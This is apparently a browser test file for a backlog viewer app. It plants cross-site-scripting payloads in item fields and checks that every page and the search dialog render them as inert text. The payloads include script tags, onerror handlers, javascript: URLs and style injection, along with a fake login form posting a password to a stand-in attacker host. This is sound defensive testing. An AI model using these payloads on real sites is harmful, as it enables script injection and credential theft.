/**
 * An item's text is whatever an agent or a pull request wrote: none of it may run in the viewer, nor restyle it, nor
 * send a form anywhere. Items whose every field carries a payload are shown on each page, and after each the page's DOM
 * must hold nothing of them that could act. The whole run is made twice: with the page's Content-Security-Policy, and
 * with it bypassed, so that the sanitiser alone must hold (the CSP would hide a sanitiser that lets scripts through).
 */

import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { backlog, backlogRepo, openViewer } from './browser.js'
import { card, column, spotlight, windowValue } from './pages.js'

const IMG = '<img src=x onerror="window.__xss=1">'
const SCRIPT = '<script>window.__xss=1</script>'
const SVG = '<svg onload="window.__xss=1"></svg>'
const TITLE = `Payload ${IMG} ${SCRIPT}`
/** Markup that runs nothing by itself but would take over the page: a fake login, styles, a new base, a redirect. */
const TAKEOVER = [
  '<form action="https://evil.example/login"><input name="password"><button formaction="javascript:window.__xss=1">Log in</button></form>',
  '<style>main { display: none }</style> <link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<object data="javascript:window.__xss=1"></object> <embed src="javascript:window.__xss=1">',
  '<p style="position:fixed;inset:0;background:red">a cover over the page</p>',
  '<a href="data:text/html,<script>window.__xss=1</script>">a data link</a>',
  '<math><mi xlink:href="javascript:window.__xss=1">math</mi></math>',
  '<img alt="a data image is fine" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
].join('\n\n')

const HOSTILE = [
  {
    title: TITLE,
    tags: [SCRIPT, IMG],
    evidence: [IMG, 'javascript:window.__xss=1'],
    references: [{ url: 'javascript:window.__xss=1', title: SVG }],
    description: [
      `Raw HTML: ${IMG} ${SCRIPT} ${SVG}`,
      '',
      '[a markdown link](javascript:window.__xss=1) and <a href="javascript:window.__xss=1">an html one</a>',
      '',
      '<iframe src="javascript:window.__xss=1"></iframe> <details open ontoggle="window.__xss=1">x</details>',
      '',
      TAKEOVER,
    ].join('\n'),
  },
  { title: `${SCRIPT}`, description: `![x](javascript:window.__xss=1) ${IMG}\n\n${TAKEOVER}` },
]

/**
 * What in the page could act, as text (the tests compile without the DOM's types, so this runs as a string): a script
 * other than the bundle's; inside the app, an element that frames, embeds, styles or redirects, a form that posts
 * somewhere, an event handler attribute, a style attribute (the app sets none), or a URL that runs script or carries
 * a document (`data:`, but for an image's source).
 */
const ACTIVE_CONTENT = `(() => {
  const problems = []
  const show = (element) => element.outerHTML.slice(0, 160)
  for (const script of document.querySelectorAll('script')) {
    if (!/^\\/assets\\/[^/]+\\.js$/.test(script.getAttribute('src') ?? '')) problems.push('script: ' + show(script))
  }
  const root = document.getElementById('app')
  const active = 'script, iframe, frame, frameset, object, embed, applet, style, link, meta, base, form[action], form[method], [formaction]'
  for (const element of root.querySelectorAll(active)) problems.push('element: ' + show(element))
  const URLS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcset', 'poster', 'background', 'cite', 'ping']
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase()
      if (name.startsWith('on')) problems.push('handler: ' + show(element))
      if (name === 'style') problems.push('style: ' + show(element))
      if (!URLS.includes(name)) continue
      const url = attribute.value.replace(/[\\u0000-\\u0020]+/g, '').toLowerCase()
      if (/^(javascript|vbscript):/.test(url)) problems.push('script URL: ' + show(element))
      const image = element.tagName === 'IMG' && name === 'src' && url.startsWith('data:image/')
      if (url.startsWith('data:') && !image) problems.push('data URL: ' + show(element))
    }
  }
  return problems
})()`

for (const bypassCSP of [false, true]) {
  describe(`text written into items, ${bypassCSP ? 'with the CSP bypassed: the sanitiser alone' : 'with the CSP'}`, () => {
    it('shows as literal text on every page and in Spotlight; the page runs, frames, styles and posts nothing of it', async () => {
      const { repo, ids } = await backlogRepo(HOSTILE)
      const id = ids[0] as string
      await backlog(repo.dir, ['update', id, '--note', `${IMG} ${SCRIPT} [x](javascript:window.__xss=1)`])
      const { page, url, pageErrors } = await openViewer(repo.dir, '/', { context: { bypassCSP } })

      /** Nothing ran, and nothing in the DOM could. */
      async function expectInert(where: string, on: Page = page): Promise<void> {
        // An <img src=x> fails to load in a few milliseconds; give its onerror the time to run, were it there.
        await on.waitForTimeout(300)
        expect(await windowValue(on, '__xss'), where).toBeUndefined()
        expect(await on.evaluate(ACTIVE_CONTENT), where).toEqual([])
        expect(new URL(on.url()).origin, where).toBe(url)
      }

      await column(page, 'open').waitFor()
      expect(await card(page, id).textContent()).toContain(TITLE)
      expect(await card(page, ids[1] as string).textContent()).toContain(SCRIPT)
      await expectInert('board')

      await page.goto(`${url}/list`)
      const row = page.locator(`tr[data-id="${id}"]`)
      await row.waitFor()
      expect(await row.textContent()).toContain(TITLE)
      await expectInert('list')

      await page.goto(`${url}/activity`)
      await page.locator('main li', { hasText: 'Payload' }).first().waitFor()
      await expectInert('activity')

      await page.goto(`${url}/review?range=HEAD~3`)
      await page.locator('main li', { hasText: 'Payload' }).first().waitFor()
      await expectInert('review')

      // Waits for elements attached, not visible: an injected style could hide them, and the check below says so.
      const attached = { state: 'attached' } as const
      await page.goto(`${url}/items/${id}`)
      await page.locator('main h1').waitFor(attached)
      expect(await page.locator('main h1').textContent()).toBe(TITLE)
      await page.locator('ol[aria-label="History"] > li').first().waitFor(attached)
      // The description was rendered (a sanitiser that dropped everything would pass the rest).
      await page.locator('div.description', { hasText: 'a cover over the page' }).waitFor(attached)
      await expectInert('item page')

      await page.goto(`${url}/items/${ids[1]}`)
      await page.locator('main h1').waitFor(attached)
      expect(await page.locator('main h1').textContent()).toBe(SCRIPT)
      await page.locator('div.description img[alt="a data image is fine"]').waitFor(attached)
      await expectInert('second item page')

      await page.keyboard.press('Control+k')
      const { dialog, input } = spotlight(page)
      await input.fill('payload')
      await dialog.getByRole('option').first().waitFor()
      await input.fill('onerror')
      await page.waitForTimeout(300)
      await expectInert('Spotlight')

      expect(pageErrors).toEqual([])
    })
  })
}
